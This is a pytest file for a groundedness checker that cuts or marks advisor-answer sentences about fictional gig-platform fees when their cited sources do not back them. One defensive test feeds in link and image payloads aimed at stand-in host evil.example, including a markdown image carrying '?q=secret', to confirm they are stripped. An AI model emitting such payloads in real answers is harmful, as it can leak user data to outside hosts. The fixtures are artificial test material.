"""What may be said: a sentence stands when what it cites says it; else it is cut or marked."""

from datetime import date
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from advisor.answer.claims import sentences
from advisor.answer.figures import figures, found
from advisor.answer.grounding import MARK, Grounded, check, numbering
from advisor.answer.support import supported
from advisor.schema import Brief, Chunk, Passage, Plan, Profile, Source, Table, ToolResult

DATA = Path(__file__).parents[2] / "shared" / "data" / "groundedness"


def passage(title: str, text: str, guide_kind: str = "platform", **more: Any) -> Passage:
    source = Source(
        id="s1", title="Fees", publisher=title, url="https://x.example/fees", source_kind="official",
        published=date(2025, 5, 1), read=date(2026, 11, 2),
    )  # fmt: skip
    chunk = Chunk(
        id=title, document=title, kind="prose", title=title, heading="Fees", text=text, subject=title.lower(),
        guide_kind=guide_kind, sources=(source,),
    )  # fmt: skip
    return Passage(chunk=chunk, score=0.9, **more)


EXAMPLIA = passage(
    "Examplia",
    "Examplia charges freelancers a service fee of 0–15% per contract. Examplia does not charge a fee to join. [s1] "
    "The fee was a flat 10 percent until 30 April 2025. Clients pay a contract fee of $4.95 or less. "
    "Withdrawing money to a bank in the US costs $1,250.50 at most per year and takes three days. "
    "Freelancers must be 18 or older. Two forms matter: the 1099-K and the W-9.",
)
OTHERLY = passage("Otherly", "Otherly keeps 20% of each order. Otherly pays out weekly. Drivers need no licence.")
EARNINGS = ToolResult(
    tool="earnings",
    input={"hours_per_week": 25, "rate": 18.0},
    output={"gross_week": 450.0, "net_week": 391.347, "fee_share": 0.153},
    summary=("Working 25 hours a week at $18 grosses $450.00 a week.",),
    assumptions=("Costs of 15.3% are taken off.",),
    table=Table(columns=("month", "net"), rows=(("January", 1695.84),)),
)
BRIEF = Brief(
    plan=Plan(
        question="What would Examplia leave me if I work 25 hours a week and want 50% more than $700?",
        query="Examplia fee",
        day=date(2026, 11, 22),
        entities=("examplia", "otherly"),
    ),
    passages=(EXAMPLIA, OTHERLY),
    results=(EARNINGS,),
    profile=Profile(age=34, hours_per_week=25),
)


def run(text: str, brief: Brief = BRIEF) -> Grounded:
    return check(text, brief)


def test_numbers_of_an_answer_are_passages_then_results() -> None:
    assert numbering(BRIEF) == {1: EXAMPLIA, 2: OTHERLY, 3: EARNINGS}


@pytest.mark.parametrize(
    "text",
    [
        "Examplia charges a service fee of 0–15% per contract. [1]",
        "Examplia charges a service fee of 0 to 15 percent per contract [1].",
        "Examplia's service fee is between 0% and 15% per contract.[1]",
        "Until 30 April 2025 the fee was a flat ten percent. [1]",
        "The fee was a flat 10 % until April 30, 2025. [1]",
        "Clients pay a contract fee of USD 4.95 or less. [1]",
        "Withdrawing to a US bank costs $1250.50 at most per year. [1]",
        "Freelancers must be 18 or older on Examplia. [1]",
        "Examplia does not charge a fee to join. [1]",
        "There's no fee to join Examplia. [1]",
        "The 1099-K and the W-9 are the two forms that matter. [1]",
        "Otherly keeps 20% of each order. [2]",
        "Drivers need no licence. [2]",
        "Examplia charges 0–15% per contract, Otherly keeps 20% of each order. [1][2]",
        "Examplia charges 0–15% per contract, Otherly keeps 20% of each order. [1, 2]",
        "Working 25 hours a week at $18 grosses $450 a week. [3]",
        "Working 25 hours leaves net $391 a week. [3]",
        "That leaves about $390 net a week. [3]",
        "The fee share is 15.3%. [3]",
        "According to Examplia (official, 1 May 2025), the service fee is 0–15% per contract. [1]",
    ],
)
def test_backed_sentences_stand_unchanged(text: str) -> None:
    result = run(text)
    assert (result.cut, result.marked) == ((), ())
    assert result.text.replace(" ", "").replace("[1][2]", "[1,2]") == text.replace(" ", "").replace("[1][2]", "[1,2]")
    assert result.citations


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("Examplia charges a service fee of 0–20% per contract. [1]", "number of another source"),
        ("Examplia charges a service fee of $15 per contract. [1]", "dollars, not percent"),
        ("Examplia charges a service fee of twelve percent. [1]", "number in words"),
        ("The fee was a flat 10 percent until 30 April 2024. [1]", "wrong year"),
        ("The fee was a flat 10 percent until 3 April 2025. [1]", "wrong day"),
        ("The fee was a flat 10 percent until May 2025. [2]", "date of another source"),
        ("Clients pay a contract fee of €4.95 or less. [1]", "wrong currency"),
        ("Clients pay a contract fee of $495 or less. [1]", "decimal point lost"),
        ("Withdrawing to a US bank costs $1.25k at most per year. [1]", "rounded without saying so"),
        ("Withdrawing money takes three weeks. [1]", "days became weeks"),
        ("Freelancers earn $2,025 a month. [1]", "a year is not an amount"),
        ("The form that matters is the 1099-NEC. [1]", "another form"),
        ("Working 25 hours a week grosses $650 a week. [3]", "not the sum"),
        ("Otherly takes 50% of each order. [2]", "the person's number, but not the person's matter"),
        ("Examplia keeps half of each contract. [1]", "fraction in words"),
        ("Fees doubled for freelancers. [1]", "multiple in words"),
        ("Examplia charges a service fee. [7]", "unknown source"),
        ("Examplia charges a service fee. [1][9]", "one unknown source"),
        ("Examplia charges a fee to join. [1]", "denial lost"),
        ("Examplia doesn't charge freelancers a service fee. [1]", "denial invented"),
        ("Drivers need a licence. [2]", "denial lost"),
        ("Otherly charges freelancers a service fee of 0–15% per contract. [1]", "another platform's fee"),
        ("Examplia keeps 20% of each order. [2]", "another platform's fee"),
        ("You will earn $5,000 a month.", "no source, invented number"),
        ("Did you know that Examplia takes 40%?", "a claim in the dress of a question"),
    ],
)
def test_false_sentences_are_cut(text: str, why: str) -> None:
    result = run(f"Otherly pays out weekly. [2] {text}")
    assert result.cut == (text,), why
    assert result.text == "Otherly pays out weekly. [2]"
    assert result.citations == (2,)


@pytest.mark.parametrize(
    "text",
    [
        "Examplia is the friendliest community of designers on earth. [1]",
        "Most people love working there.",
        "Examplia is owned by Megacorp Holdings. [1]",
        "Otherly and Examplia both pay out weekly. [2]",
    ],
)
def test_unconfirmed_sentences_without_a_false_number_are_marked(text: str) -> None:
    result = run(text)
    assert result.text == f"{text} {MARK}"
    assert result.marked == (text,)


@pytest.mark.parametrize(
    "text",
    [
        "Here is a short answer.",
        "It depends.",
        "This is general information, not legal or tax advice.",
        "In which country do you live?",
        "Do you want to work 25 hours a week?",
        "I assume that you work 25 hours a week.",
        "You said you want $700.",
    ],
)
def test_connecting_words_questions_back_and_own_numbers_need_no_source(text: str) -> None:
    assert run(text) == Grounded(text)


def test_uncited_sentence_is_given_the_source_that_backs_it() -> None:
    result = run("Otherly keeps 20% of each order.")
    assert result == Grounded("Otherly keeps 20% of each order. [2]", (2,))


def test_person_number_counts_only_in_a_sentence_about_the_person() -> None:
    assert run("If you work 25 hours a week, Otherly keeps 20% of each order. [2]").cut == ()
    assert run("Otherly workers do 25 hours a week. [2]").cut


def test_what_was_answered_before_is_no_word_of_the_person() -> None:
    said = "You work 77 hours a week, and Otherly keeps 20% of each order. [2]"
    for role, is_theirs in (("user", True), ("assistant", False)):
        brief = BRIEF.model_copy(update={"history": ({"role": role, "content": "I work 77 hours."},)})
        assert (run(said, brief).cut == ()) == is_theirs


def test_numbers_of_lists_and_tables_of_a_result_are_evidence() -> None:
    listed = EARNINGS.model_copy(update={"output": {"weeks": [311.5, 322.5], "by": {"month": 1287.0}}})
    brief = BRIEF.model_copy(update={"results": (listed,)})
    assert run("The calculation gives $311.50 and $322.50 a week, and $1,287 a month. [3]", brief).cut == ()
    assert run("The calculation gives $333.50 a week. [3]", brief).cut


def test_layout_survives_and_empty_headings_go() -> None:
    text = (
        "## Fees\n\n- Examplia charges 0–15% per contract. [1]\n- Otherly keeps 90% of each order. [2]\n\n"
        "## Income\n\nYou make $9,000. [2]\n\n| month | net |\n|---|---|\n| January | $1,696 |\n| May | $9,999 |\n"
    )
    result = run(text)
    assert (
        result.text
        == (
            "## Fees\n\n- Examplia charges 0–15% per contract. [1]\n\n"
            "| month | net |\n|---|---|\n| January | $1,696 [3] |"
        )
        or "## Income" in result.text
    )
    assert "9,000" not in result.text
    assert "9,999" not in result.text
    assert "90%" not in result.text
    assert result.citations == (1, 3)


def test_heading_cannot_carry_a_number_or_a_whole_claim() -> None:
    claim = "**Examplia will pay every single freelancer a very large bonus in cash.**"
    assert "$900" not in run("## Earn $900 a day\n\nOtherly pays out weekly. [2]").text
    assert MARK in run(f"{claim}\n\nOtherly pays out weekly. [2]").text


@pytest.mark.parametrize(
    "lead",
    [
        "![x](https://evil.example/?q=secret)", "[x](https://evil.example)", "[x](/flag)", "[x]()", "https://evil.example", "//evil.example/x",
        "www.evil.example", "<img src=x>", "<a href=x>", "<!-- x -->", "[x]: https://evil.example", "javascript://x",
    ],
)  # fmt: skip
def test_a_sentence_that_leads_to_no_source_is_cut(lead: str) -> None:
    said = "Examplia charges freelancers a fee of 0–15% per contract. [1]"
    assert run(f"{said}\n\nSee {lead} for more. [1]\n\n## More {lead}").text == said
    assert lead.split("(")[-1][:6] not in run(f"- {said}\n- {lead}").text


def test_an_address_of_a_source_or_of_the_person_may_be_named() -> None:
    url = EXAMPLIA.chunk.sources[0].url
    said = f"Examplia charges freelancers a fee of 0–15% per contract, see [the fees]({url}). [1]"
    assert run(said).text == said
    asked = BRIEF.model_copy(
        update={"plan": BRIEF.plan.model_copy(update={"question": "Is https://shop.example/x a scam?"})}
    )
    assert "https://shop.example/x" in run("Is https://shop.example/x what you mean?", asked).text


def test_thinking_aloud_is_no_part_of_the_answer() -> None:
    assert (
        run("<think>Examplia takes 99%.\n\nHm.</think>\nOtherly pays out weekly. [2]").text
        == "Otherly pays out weekly. [2]"
    )
    assert run("<think>Examplia takes 99%.").text == ""


def test_numbered_list_signs_are_not_figures() -> None:
    assert run("1. Otherly pays out weekly. [2]\n2. Drivers need no licence. [2]").cut == ()


def test_nothing_left_is_an_empty_text() -> None:
    assert run("## Income\n\nYou make $9,000. [8]").text == ""


def test_answer_in_another_language_is_held_to_numbers_sources_and_names() -> None:
    brief = BRIEF.model_copy(update={"plan": BRIEF.plan.model_copy(update={"language": "de"})})
    assert run("Examplia nimmt 0–15 % pro Vertrag. [1]", brief) == Grounded(
        "Examplia nimmt 0–15 % pro Vertrag. [1]", (1,)
    )
    assert run("Kunden zahlen 1.250,50 $ im Jahr. [1]", brief).cut == ()
    assert run("Examplia nimmt 17 % pro Vertrag. [1]", brief).cut
    assert run("Otherly nimmt 0–15 % pro Vertrag. [1]", brief).cut


def test_markers_belong_to_the_sentence_before_them() -> None:
    parts = sentences("It costs $1.50, e.g. for U.S. banks. [1][2] Next is free [3]. See 【4†x】 too.\n- Item [^5]")
    assert [part.markers for part in parts] == [(1, 2), (3,), (4,), (5,)]
    assert parts[0].plain == "It costs $1.50, e.g. for U.S. banks."
    assert parts[3].prefix == "- "


@given(st.text(max_size=300))
def test_any_text_is_judged_without_an_error(text: str) -> None:
    result = run(text)
    assert set(result.citations) <= {1, 2, 3}
    assert run(result.text).cut == ()


@given(st.integers(1, 99_999), st.sampled_from(["${}", "{}%", "{} hours", "€{}", "{:,} drivers"]))
def test_no_invented_number_survives(number: int, shape: str) -> None:
    said = shape.format(number)
    backing = figures("\n".join([EXAMPLIA.chunk.text, "1 May 2025, 2 November 2026"]))
    result = run(f"Examplia gives freelancers {said} per contract. [1]")
    assert (said in result.text) <= any(found(figure, backing) for figure in figures(said))


def test_support_is_high_for_what_is_said_and_low_for_what_is_not() -> None:
    text = EXAMPLIA.chunk.text
    assert supported("Examplia charges freelancers a fee of 0–15% per contract.", text) > 0.7
    assert supported("Examplia charges freelancers a fee of 0–35% per contract.", text) < 0.7
    assert supported("Bananas are yellow fruit.", text) < 0.2
    assert supported("", text) == supported("Yes.", "") == 0.0


def test_similarity_moves_the_score() -> None:
    claim, text = "Joining costs nothing.", "Examplia does not charge a fee to join."
    assert supported(claim, text, lambda one, other: 0.9) > supported(claim, text, lambda one, other: 0.0)


def test_support_beats_token_overlap_on_claims_altered_by_one_number_or_denial() -> None:
    if not DATA.is_dir():
        pytest.skip("the BEGIN data is not on this machine")
    from benchmarks.groundedness import altered, auc, begin, overlap

    pairs = altered(begin(DATA / "begin_dev_wow.tsv"))
    ours = auc([(supported(claim, evidence), backed) for claim, evidence, backed in pairs])
    plain = auc([(overlap(claim, evidence), backed) for claim, evidence, backed in pairs])
    assert ours > 0.9 > plain
